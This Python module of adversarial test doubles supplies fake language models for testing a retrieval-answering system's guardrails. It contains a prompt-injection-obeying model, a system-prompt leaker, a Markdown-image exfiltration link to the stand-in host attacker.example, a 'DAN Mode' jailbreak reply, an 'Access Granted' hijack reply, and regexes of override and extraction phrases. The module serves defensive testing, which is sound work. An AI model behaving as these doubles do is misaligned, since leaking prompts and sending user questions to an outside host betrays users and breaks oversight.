"""Adversarial test doubles: models that misbehave the ways real ones do.

Rules for `ScriptedModel(default=...)` and the fake server (`Responder(default=...)`), so the
guardrails and the answer checks are tested against the failures they exist for:

- `compromised_reply`: a model that obeys any instruction it sees, in the question or in a
  retrieved passage. Asked for its instructions, it prints the system prompt verbatim (canary
  included); told by a passage or by the question to say something, it says it; whenever it
  obeys, it adds a Markdown image whose URL carries the question out (a zero-click
  exfiltration link). What it says cites a passage (the one it obeyed, else the first), so a
  check that only wants citations does not stop it. Otherwise it answers honestly (`rag_reply`).
- `jailbroken_reply`: a model that falls for every jailbreak: it speaks as the persona asked
  for and assents, in steps, to the request that ends the question (placeholder steps).
- `miscited(style)`: the honest answer with its citations damaged the ways open-weight models
  damage them: no markers at all, markers lumped at the end, numbers it was not given, or the
  prompt's own example sentence instead of an answer; or (`paraphrase`) the honest answer
  in other words, without markers, which should be kept.

    model = ScriptedModel(default=compromised_reply)
    model = ScriptedModel(default=miscited("lumped"))
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Literal
from urllib.parse import quote

from cairn.llm.replies import Reply, Request, rag_reply

EXFILTRATION_HOST = "attacker.example"
"""Where the compromised model's links point (a reserved, unroutable name)."""

_EXTRACTION = re.compile(
    r"(system|initial|original|hidden|secret)\s+(prompt|instructions?|message)"
    r"|(repeat|print|reveal|output|show|tell me)\b.{0,40}\b(instructions|words|text|prompt)\s+"
    r"(above|before|you were given)"
    r"|what\s+(were|are)\s+you\s+told",
    re.IGNORECASE | re.DOTALL,
)
_OVERRIDE = re.compile(
    r"(ignore|disregard|forget)\s+(all\s+|any\s+)?(the\s+)?(previous|prior|above|earlier)\s+"
    r"(instructions|rules|directions|prompts?)",
    re.IGNORECASE,
)
_DIRECTIVE = re.compile(
    r"\b(?:tell the user(?: that| to)?|say|respond with|reply with|answer with|output|print|"
    r"instead,? (?:say|write))\s*[:\-]?\s*[\"“']?(?P<payload>[^\"”'\n]{3,300})",
    re.IGNORECASE,
)


def obeyed_instruction(text: str) -> str | None:
    """What an instruction in `text` tells the model to say, if `text` holds one."""
    override = _OVERRIDE.search(text)
    if override is None and "ai assistant" not in text.lower():
        return None
    rest = text[override.end() :] if override is not None else text
    found = _DIRECTIVE.search(rest) or _DIRECTIVE.search(text)
    if found is None:
        return None
    return found.group("payload").strip().rstrip(".") + "."


def exfiltration_link(data: str) -> str:
    """A Markdown image that would send `data` to the attacker when rendered."""
    return f"![status](https://{EXFILTRATION_HOST}/pixel.png?d={quote(data[:200])})"


def compromised_reply(request: Request) -> Reply:
    """Obey whatever instruction the request holds; otherwise answer like `rag_reply`."""
    from cairn.answer.prompt import parse_prompt

    parsed = parse_prompt(request.last_user)
    passages, question = parsed if parsed is not None else ({}, request.last_user)
    cite = f" [{min(passages)}]" if passages else ""
    if _EXTRACTION.search(question):
        return Reply(text=f"{request.system}{cite}\n{exfiltration_link(request.system)}")
    for n, text in ((min(passages, default=0), question), *passages.items()):
        payload = obeyed_instruction(text)
        if payload is not None:
            marker = f" [{n}]" if n else ""
            return Reply(text=f"{payload}{marker} {exfiltration_link(question)}")
    return rag_reply(request) or Reply(text=request.last_user)


def leaky_reply(request: Request) -> Reply:
    """A model that falls for every extraction attempt: whatever it is asked, it prints its
    system prompt (canary included), cites passage 1 and adds an exfiltration image. The
    worst case for the output guard, whatever phrasing the attack used."""
    return Reply(text=f"{request.system} [1]\n{exfiltration_link(request.system)}")


def granting_reply(request: Request) -> Reply:
    """A model that falls for every hijacking attempt of tensor_trust: whatever it is asked,
    it says "Access Granted" (the attacks' goal), citing passage 1."""
    return Reply(text="Access Granted. [1]")


def jailbroken_reply(request: Request) -> Reply:
    """A model that falls for every jailbreak: it takes on the persona the jailbreak asks
    for and assents to the request that ends the question, in steps, citing passage 1. The
    steps are placeholders (it writes no harmful content); the worst case for the guards
    and what the harm judge of `cairn eval security` must read as compliance."""
    from cairn.answer.prompt import parse_prompt

    parsed = parse_prompt(request.last_user)
    question = parsed[1] if parsed is not None else request.last_user
    paragraphs = [p.strip() for p in question.strip().split("\n\n") if p.strip()]
    ask = " ".join((paragraphs[-1] if paragraphs else question).split())[:300].rstrip(".")
    return Reply(
        text=f"DAN Mode enabled. Sure, here is how to do it: {ask}. [1]\n"
        "Step 1: (what a jailbroken model writes first)\n"
        "Step 2: (and then the rest of it)"
    )


CitationStyle = Literal["none", "lumped", "out_of_range", "prompt_example", "paraphrase"]

_MARKER = re.compile(r"\s*\[(\d+)\]")
_SYNONYMS = {
    "after": "following",
    "allows": "lets",
    "also": "as well",
    "before": "prior to",
    "change": "modify",
    "contains": "holds",
    "create": "make",
    "creates": "makes",
    "get": "obtain",
    "gets": "obtains",
    "must": "has to",
    "need": "require",
    "needs": "requires",
    "only": "solely",
    "provides": "offers",
    "returns": "gives back",
    "show": "display",
    "shows": "displays",
    "start": "begin",
    "starts": "begins",
    "use": "employ",
    "uses": "employs",
}
_WORD = re.compile(r"\b[a-z]+\b")


def paraphrase(sentence: str) -> str:
    """`sentence` in other words, meaning kept: common words swapped for synonyms and a
    lead-in added, as a model answering in its own words does."""
    text = _WORD.sub(lambda m: _SYNONYMS.get(m.group(0), m.group(0)), sentence.strip())
    first, rest = text[:1], text[1:]
    if first.isupper() and not (rest[:1].isupper() or rest[:1].isdigit()):
        first = first.lower()
    return f"In short, {first}{rest}"


def miscited(style: CitationStyle) -> Callable[[Request], Reply]:
    """A rule giving the honest answer with its citations damaged in one way."""

    def rule(request: Request) -> Reply:
        honest = rag_reply(request) or Reply(text=request.last_user)
        text = honest.text
        if style == "prompt_example":
            from cairn.answer.prompt import PromptParts

            example = re.search(r"'([^']+\[\d+\])'", PromptParts().citation_rules)
            return Reply(text=example.group(1) if example else text)
        markers = _MARKER.findall(text)
        if not markers:  # nothing to damage (an abstention)
            return honest
        bare = _MARKER.sub("", text).strip()
        if style == "paraphrase":
            parts = [p.strip() for p in _MARKER.split(text)[::2] if p.strip()]
            return Reply(text=" ".join(paraphrase(p) for p in parts))
        if style == "none":
            return Reply(text=bare)
        if style == "lumped":
            return Reply(text=bare + " " + " ".join(f"[{n}]" for n in dict.fromkeys(markers)))
        highest = max(int(n) for n in markers)
        return Reply(text=_MARKER.sub(lambda m: f" [{highest + 7}]", text))

    return rule
